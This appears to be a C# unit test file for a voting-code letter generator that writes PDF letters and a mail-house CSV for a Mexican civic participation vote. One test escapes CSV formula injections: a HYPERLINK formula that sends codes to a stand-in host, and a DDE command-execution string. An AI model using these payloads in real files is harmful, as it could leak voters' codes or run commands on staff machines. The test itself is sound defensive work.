using System.Text;
using Microsoft.VisualBasic.FileIO;
using GobiernoAbierto.Credentials;
using GobiernoAbierto.Tests.Support;

namespace GobiernoAbierto.Tests.Unit;

/// <summary>A small issuance: a few voters with whole identifiers, as the roll holds them, and their letters.</summary>
public sealed class PrintedIssuance
{
    public static readonly Guid JornadaId = Guid.Parse("6f1c2a9e-3b7d-4c55-9e0a-1d2b3c4d5e6f");

    public static readonly LetterBatch Batch = new(
        "Jornada de Participación 2026: obra pública en Félix Osores Sotomayor",
        "del lunes 9 al domingo 15 de noviembre de 2026, de 8:00 a 20:00 horas",
        new Uri("https://participa.example.mx/votar.html"),
        new Uri("https://participa.example.mx/recibo.html"),
        new Uri("https://participa.example.mx/participacion.html"));

    private static readonly string[] Colonias = ["Loma Bonita", "San Pedro Mártir", "El Tintero, 2ª sección", "Felipe Carrillo Puerto"];

    public PrintedIssuance()
    {
        Identifiers = Enumerable.Range(0, 30).Select(_ => Voters.UniqueClave()).ToList();
        Letters = Identifiers.Select((identifier, i) =>
            Letter.For(Colonias[i % Colonias.Length], identifier, VotingCode.New(), JornadaId)).ToList();
        using var pdf = new MemoryStream();
        Credentials.Letters.WritePdf(Batch, Letters, pdf);
        Pdf = pdf.ToArray();
        Pages = PrintedLetters.Read(Pdf);
    }

    public IReadOnlyList<string> Identifiers { get; }
    public IReadOnlyList<Letter> Letters { get; }
    public byte[] Pdf { get; }
    public IReadOnlyList<PrintedPage> Pages { get; }
}

public sealed class when_voting_code_letters_are_printed(PrintedIssuance issuance) : IClassFixture<PrintedIssuance>
{
    [Fact]
    public void the_pdf_has_exactly_one_page_per_letter()
    {
        Assert.Equal(issuance.Letters.Count, PrintedLetters.PageCount(issuance.Pdf));
        Assert.Equal(issuance.Letters.Count, issuance.Pages.Count);
    }

    [Fact]
    public void each_page_holds_one_sharp_qr_image_that_decodes_to_its_own_voting_link()
    {
        for (var i = 0; i < issuance.Letters.Count; i++)
        {
            var letter = issuance.Letters[i];
            var image = Assert.Single(issuance.Pages[i].Images);
            Assert.False(image.Interpolate, "A scaled-up QR must not be smoothed.");
            Assert.Equal(
                $"https://participa.example.mx/votar.html?jornada={PrintedIssuance.JornadaId:D}#codigo={letter.Code}",
                image.DecodeQr());
        }
    }

    [Fact]
    public void each_page_shows_its_colonia_the_last_four_characters_of_the_identifier_and_the_code()
    {
        for (var i = 0; i < issuance.Letters.Count; i++)
        {
            var text = issuance.Pages[i].Text;
            var letter = issuance.Letters[i];
            Assert.Contains(letter.ColoniaName, text);
            Assert.Contains($"Clave de elector terminada en {issuance.Identifiers[i][^4..]}", text);
            Assert.Contains(letter.Code, text);
            Assert.Matches(VotingCode.Pattern(), letter.Code);
            Assert.DoesNotContain(issuance.Letters.Where((_, j) => j != i), other => text.Contains(other.Code, StringComparison.Ordinal));
        }
    }

    [Fact]
    public void no_page_and_nothing_in_the_file_holds_a_whole_identifier_or_more_than_its_last_four_characters()
    {
        var file = Encoding.Latin1.GetString(issuance.Pdf);
        for (var i = 0; i < issuance.Identifiers.Count; i++)
        {
            var identifier = issuance.Identifiers[i];
            Assert.DoesNotContain(issuance.Pages, page => page.Text.Contains(identifier[^5..], StringComparison.Ordinal));
            Assert.DoesNotContain(identifier, file, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void every_page_explains_in_spanish_how_and_when_to_vote_and_how_to_check()
    {
        Assert.All(issuance.Pages, page =>
        {
            Assert.Contains(PrintedIssuance.Batch.JornadaTitle, page.Flowing);
            Assert.Contains("Cómo votar en línea", page.Flowing);
            Assert.Contains("https://participa.example.mx/votar.html", page.Flowing);
            // The address names no Jornada: the page may ask which one, and the letter says.
            Assert.Contains($"Si la página le pide elegir la Jornada, elija «{PrintedIssuance.Batch.JornadaTitle}».", page.Flowing);
            Assert.Contains(PrintedIssuance.Batch.VotingWindow, page.Flowing);
            Assert.Contains("Su código es secreto y personal", page.Flowing);
            Assert.Contains("Sirve una sola vez", page.Flowing);
            Assert.Contains("pida una nueva en el módulo del IEEQ de su delegación, con su credencial para votar (INE)", page.Flowing); // where, not only «pida una nueva»
            Assert.Contains("credencial para votar (INE)", page.Flowing);
            Assert.Contains("no necesita", page.Flowing);
            Assert.Contains("Compruebe su voto", page.Flowing);
            Assert.Contains("https://participa.example.mx/recibo.html", page.Flowing);
            Assert.Contains("¿Alguien votó con mis datos?", page.Flowing);
            Assert.Contains("https://participa.example.mx/participacion.html", page.Flowing);
        });
    }

    /// <summary>
    /// A Jornada voted online only: its letters sent people to kiosks that did not exist. Kiosks may also be registered
    /// after the letters are made, so the letter says where to learn of them, not that there are some; and the code
    /// still answers «¿Alguien votó con mis datos?» after the vote.
    /// </summary>
    [Fact]
    public void a_letter_speaks_of_kiosks_only_if_the_jornada_has_them_and_of_the_code_after_the_vote()
    {
        Assert.All(issuance.Pages, page =>
        {
            Assert.Contains("Si la Jornada tiene kioscos (la página de inicio dice dónde y a qué hora), lleve su credencial", page.Flowing);
            Assert.Contains("después ya no sirve para votar, solo para saber si se votó con sus datos", page.Flowing);
        });
    }

    [Fact]
    public void a_curp_jornadas_letter_never_speaks_of_a_credencial()
    {
        var curp = Voters.UniqueCurp();
        using var pdf = new MemoryStream();
        Credentials.Letters.WritePdf(PrintedIssuance.Batch with { IdentifierName = "CURP" },
            [Letter.For("Loma Bonita", curp, VotingCode.New(), PrintedIssuance.JornadaId)], pdf);

        var page = Assert.Single(PrintedLetters.Read(pdf.ToArray()));

        Assert.Contains("lleve su CURP y muéstrela", page.Flowing);
        Assert.Contains("si ya se votó con sus datos", page.Flowing);
        Assert.DoesNotContain("credencial", page.Flowing, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotMatch(@"\bINE\b", page.Flowing);
    }

    [Fact]
    public async Task it_writes_to_a_stream_that_only_takes_asynchronous_writes_like_an_http_response()
    {
        using var buffer = new MemoryStream();
        await using (var response = new AsyncOnlyStream(buffer))
            await Credentials.Letters.WritePdfAsync(PrintedIssuance.Batch, issuance.Letters.Take(3), response);

        Assert.Equal(3, PrintedLetters.PageCount(buffer.ToArray()));
    }

    /// <summary>
    /// Staff name the colonias, and the file holds every code: a name a spreadsheet would run as a formula (which could
    /// send the codes away when the authority or the mail house opens it) is written as text.
    /// </summary>
    [Theory]
    [InlineData("=HYPERLINK(\"https://evil.example/?x=\"&D2,\"Ver\")", "\"'=HYPERLINK(\"\"https://evil.example/?x=\"\"&D2,\"\"Ver\"\")\"")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("+52 Centro", "'+52 Centro")]
    [InlineData("-Centro", "'-Centro")]
    [InlineData("\t=1+1", "'=1+1")] // the name is trimmed, and what is left is still a formula
    [InlineData("Loma Bonita", "Loma Bonita")]
    public void a_colonia_name_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text(string colonia, string written)
    {
        using var csv = new MemoryStream();
        Credentials.Letters.WriteCsv(PrintedIssuance.Batch, [Letter.For(colonia, issuance.Identifiers[0], VotingCode.New(), PrintedIssuance.JornadaId)], csv);

        var row = Encoding.UTF8.GetString(csv.ToArray()).Split("\r\n")[1];
        Assert.StartsWith($",{written},", row[row.IndexOf(',')..]);
    }

    [Fact]
    public void it_writes_into_a_zip_entry_beside_the_csv()
    {
        using var zip = new MemoryStream();
        using (var archive = new System.IO.Compression.ZipArchive(zip, System.IO.Compression.ZipArchiveMode.Create, leaveOpen: true))
        {
            using (var pdf = archive.CreateEntry("cartas.pdf").Open())
                Credentials.Letters.WritePdf(PrintedIssuance.Batch, issuance.Letters.Take(2), pdf);
            using (var csv = archive.CreateEntry("cartas.csv").Open())
                Credentials.Letters.WriteCsv(PrintedIssuance.Batch, issuance.Letters.Take(2), csv);
        }

        using var read = new System.IO.Compression.ZipArchive(new MemoryStream(zip.ToArray()));
        using var entry = new MemoryStream();
        read.GetEntry("cartas.pdf")!.Open().CopyTo(entry);
        Assert.Equal(2, PrintedLetters.PageCount(entry.ToArray()));
    }

    [Fact]
    public async Task a_cancelled_issuance_stops_without_writing()
    {
        using var output = new MemoryStream();
        await Assert.ThrowsAnyAsync<OperationCanceledException>(() =>
            Credentials.Letters.WritePdfAsync(PrintedIssuance.Batch, issuance.Letters, output, new CancellationToken(canceled: true)));
        Assert.Equal(0, output.Length);
    }

    [Fact]
    public void no_letters_is_refused_rather_than_printed_as_an_empty_file() =>
        Assert.Throws<ArgumentException>(() => Credentials.Letters.WritePdf(PrintedIssuance.Batch, [], Stream.Null));

    [Fact]
    public void a_bad_letter_surfaces_as_itself()
    {
        IEnumerable<Letter> Letters()
        {
            yield return issuance.Letters[0];
            throw new InvalidDataException("the roll changed");
        }

        Assert.Throws<InvalidDataException>(() => Credentials.Letters.WritePdf(PrintedIssuance.Batch, Letters(), Stream.Null));
    }

    /// <summary>Like Kestrel's response body: no seeking, no length, synchronous writes refused.</summary>
    private sealed class AsyncOnlyStream(Stream inner) : Stream
    {
        public override bool CanRead => false;
        public override bool CanSeek => false;
        public override bool CanWrite => true;
        public override long Length => throw new NotSupportedException();
        public override long Position { get => throw new NotSupportedException(); set => throw new NotSupportedException(); }
        public override void Flush() => throw new InvalidOperationException("Synchronous operations are disallowed.");
        public override Task FlushAsync(CancellationToken cancellationToken) => inner.FlushAsync(cancellationToken);
        public override int Read(byte[] buffer, int offset, int count) => throw new NotSupportedException();
        public override long Seek(long offset, SeekOrigin origin) => throw new NotSupportedException();
        public override void SetLength(long value) => throw new NotSupportedException();
        public override void Write(byte[] buffer, int offset, int count) =>
            throw new InvalidOperationException("Synchronous operations are disallowed.");
        public override ValueTask WriteAsync(ReadOnlyMemory<byte> buffer, CancellationToken cancellationToken = default) =>
            inner.WriteAsync(buffer, cancellationToken);
        public override Task WriteAsync(byte[] buffer, int offset, int count, CancellationToken cancellationToken) =>
            inner.WriteAsync(buffer, offset, count, cancellationToken);
        public override ValueTask DisposeAsync() => ValueTask.CompletedTask;
    }
}

public sealed class when_a_letter_is_made
{
    private static readonly string Code = VotingCode.New();

    [Fact]
    public void it_keeps_only_the_last_four_characters_of_the_identifier()
    {
        var letter = Letter.For("Loma Bonita", "GMVLMR80070501M100", Code, Guid.NewGuid());
        Assert.Equal("M100", letter.IdentifierTail);
    }

    [Theory]
    [InlineData("")]
    [InlineData("1M100")]
    [InlineData("GMVLMR80070501M100")]
    public void a_tail_that_is_empty_or_longer_than_four_characters_is_refused(string tail) =>
        Assert.Throws<ArgumentException>(() => new Letter("Loma Bonita", tail, Code, Guid.NewGuid()));

    [Fact]
    public void an_identifier_no_longer_than_its_tail_is_refused() =>
        Assert.Throws<ArgumentException>(() => Letter.For("Loma Bonita", "M100", Code, Guid.NewGuid()));

    [Theory]
    [InlineData("7XK2-MQ9P-4TRV-B3HQ")] // wrong check symbol
    [InlineData("7XK2-MQ9P-4TRV")]
    [InlineData("")]
    public void a_code_without_a_good_check_symbol_is_refused(string code) =>
        Assert.Throws<ArgumentException>(() => new Letter("Loma Bonita", "M100", code, Guid.NewGuid()));

    [Fact]
    public void the_code_is_kept_in_its_grouped_form() =>
        Assert.Equal("7XK2-MQ9P-4TRV-B3HT", new Letter("Loma Bonita", "M100", "7xk2mq9p4trvb3ht", Guid.NewGuid()).Code);

    [Fact]
    public void the_voting_link_carries_the_jornada_in_its_query_and_the_code_after_the_hash_which_no_server_receives()
    {
        var jornadaId = Guid.Parse("6f1c2a9e-3b7d-4c55-9e0a-1d2b3c4d5e6f");
        Assert.Equal(
            "https://participa.example.mx/votar.html?jornada=6f1c2a9e-3b7d-4c55-9e0a-1d2b3c4d5e6f#codigo=7XK2-MQ9P-4TRV-B3HT",
            Credentials.Letters.VotingLink(new Uri("https://participa.example.mx/votar.html"), jornadaId, "7xk2 mq9p 4trv b3ht").AbsoluteUri);
        Assert.Equal(
            "https://participa.example.mx/votar.html?canal=carta&jornada=6f1c2a9e-3b7d-4c55-9e0a-1d2b3c4d5e6f#codigo=7XK2-MQ9P-4TRV-B3HT",
            Credentials.Letters.VotingLink(new Uri("https://participa.example.mx/votar.html?canal=carta"), jornadaId, "7XK2-MQ9P-4TRV-B3HT").AbsoluteUri);
    }

    [Theory]
    [InlineData("/votar.html")]
    [InlineData("ftp://participa.example.mx/votar.html")]
    [InlineData("https://participa.example.mx/votar.html#codigo")]
    public void the_pages_must_be_absolute_web_addresses(string address) =>
        Assert.Throws<ArgumentException>(() => new LetterBatch("Jornada", "del 9 al 15 de noviembre",
            new Uri(address, UriKind.RelativeOrAbsolute), new Uri("https://h/recibo.html"), new Uri("https://h/participacion.html")));

    [Fact]
    public void missing_fonts_are_reported_with_the_debian_package_that_has_them()
    {
        var empty = Directory.CreateTempSubdirectory("no-fonts-");
        try
        {
            var error = Assert.Throws<InvalidOperationException>(() => LetterFonts.Verify(empty.FullName));
            Assert.Contains("apt-get install -y fonts-dejavu-core", error.Message);
            Assert.Contains("DejaVuSansMono-Bold.ttf", error.Message);
        }
        finally
        {
            empty.Delete();
        }
    }

    [Fact]
    public void the_fonts_the_letters_use_are_installed_here() => LetterFonts.Verify(LetterFonts.EnsureRegistered().Directory);
}

public sealed class when_letters_go_to_a_mail_house
{
    private static readonly Guid JornadaId = Guid.Parse("6f1c2a9e-3b7d-4c55-9e0a-1d2b3c4d5e6f");

    private static readonly Letter[] Letters =
    [
        new("Loma Bonita", "M100", "7XK2-MQ9P-4TRV-B3HT", JornadaId) { Folio = 2 },
        new("El Tintero, 2ª sección", "H201", VotingCode.New(), JornadaId),
        new("Colonia \"El Mirador\"", "0Z9A", VotingCode.New(), JornadaId),
        new("San Pedro\r\nMártir", "M7", VotingCode.New(), JornadaId),
    ];

    private static byte[] Csv(LetterBatch? batch = null)
    {
        using var output = new MemoryStream();
        Credentials.Letters.WriteCsv(batch ?? PrintedIssuance.Batch, Letters, output);
        return output.ToArray();
    }

    [Fact]
    public void a_csv_parser_reads_back_every_field_exactly()
    {
        // .NET's own RFC 4180 reader (quoted fields, doubled quotes, line breaks inside quotes), not ours.
        using var parser = new TextFieldParser(new MemoryStream(Csv()), Encoding.UTF8)
        {
            TextFieldType = FieldType.Delimited,
            Delimiters = [","],
            HasFieldsEnclosedInQuotes = true,
            TrimWhiteSpace = false,
        };
        Assert.Equal(["folio", "colonia", "identificador_termina_en", "codigo_de_votacion", "liga_para_votar", "aviso"], parser.ReadFields()!);
        var rows = new List<string[]>();
        while (!parser.EndOfData) rows.Add(parser.ReadFields()!);

        Assert.Equal(Letters.Length, rows.Count);
        for (var i = 0; i < Letters.Length; i++)
        {
            Assert.Equal(Letters[i].Folio?.ToString() ?? "", rows[i][0]);
            Assert.Equal(Letters[i].ColoniaName, rows[i][1]);
            Assert.Equal(Letters[i].IdentifierTail, rows[i][2]);
            Assert.Equal(Letters[i].Code, rows[i][3]);
            Assert.Equal(Credentials.Letters.VotingLink(PrintedIssuance.Batch, Letters[i]).AbsoluteUri, rows[i][4]);
            Assert.Equal("", rows[i][5]); // the first letters replace none
        }
    }

    /// <summary>
    /// A reissued letter looked like the one it replaced (a walk-through): a person holding both could not tell which
    /// votes. It says so under the title, and the mail house's file carries the same sentence.
    /// </summary>
    [Fact]
    public void a_letter_that_replaces_another_says_so_on_the_page_and_in_the_mail_houses_file()
    {
        var notice = VotingCodeEndpoints.ReplacementLetter(new DateTimeOffset(2026, 11, 10, 16, 30, 0, TimeSpan.Zero));
        var batch = PrintedIssuance.Batch with { Replaces = notice };
        using var pdf = new MemoryStream();
        Credentials.Letters.WritePdf(batch, [Letter.For("Loma Bonita", Voters.UniqueClave(), VotingCode.New(), PrintedIssuance.JornadaId)], pdf);

        var page = Assert.Single(PrintedLetters.Read(pdf.ToArray()));
        Assert.Contains("Carta de reposición del 10/11/2026 10:30 (hora del centro de México): sustituye a la carta anterior de esta persona, cuyo código ya no sirve.", page.Flowing);
        using var first = new MemoryStream();
        Credentials.Letters.WritePdf(PrintedIssuance.Batch, [Letter.For("Loma Bonita", Voters.UniqueClave(), VotingCode.New(), PrintedIssuance.JornadaId)], first);
        Assert.DoesNotContain("reposición", Assert.Single(PrintedLetters.Read(first.ToArray())).Flowing);

        using var parser = new TextFieldParser(new MemoryStream(Csv(batch)), Encoding.UTF8) { TextFieldType = FieldType.Delimited, Delimiters = [","], HasFieldsEnclosedInQuotes = true };
        parser.ReadFields();
        Assert.Equal(notice, parser.ReadFields()![5]);
    }

    [Fact]
    public void it_is_utf8_without_a_byte_order_mark_with_crlf_rows_and_rfc_4180_quoting()
    {
        var bytes = Csv();
        Assert.NotEqual(0xEF, bytes[0]);
        var text = new UTF8Encoding(false, throwOnInvalidBytes: true).GetString(bytes);
        Assert.StartsWith("folio,colonia,identificador_termina_en,codigo_de_votacion,liga_para_votar,aviso\r\n", text);
        Assert.Contains(
            "\r\n2,Loma Bonita,M100,7XK2-MQ9P-4TRV-B3HT,https://participa.example.mx/votar.html?jornada=6f1c2a9e-3b7d-4c55-9e0a-1d2b3c4d5e6f#codigo=7XK2-MQ9P-4TRV-B3HT,\r\n",
            text);
        Assert.Contains("\r\n,\"El Tintero, 2ª sección\",H201,", text);
        Assert.Contains("\r\n,\"Colonia \"\"El Mirador\"\"\",0Z9A,", text);
        Assert.Contains("\r\n,\"San Pedro\r\nMártir\",M7,", text);
        Assert.EndsWith("\r\n", text);
    }

    [Fact]
    public async Task the_asynchronous_writer_writes_the_same_bytes()
    {
        using var output = new MemoryStream();
        await Credentials.Letters.WriteCsvAsync(PrintedIssuance.Batch, Letters, output);
        Assert.Equal(Csv(), output.ToArray());
    }
}
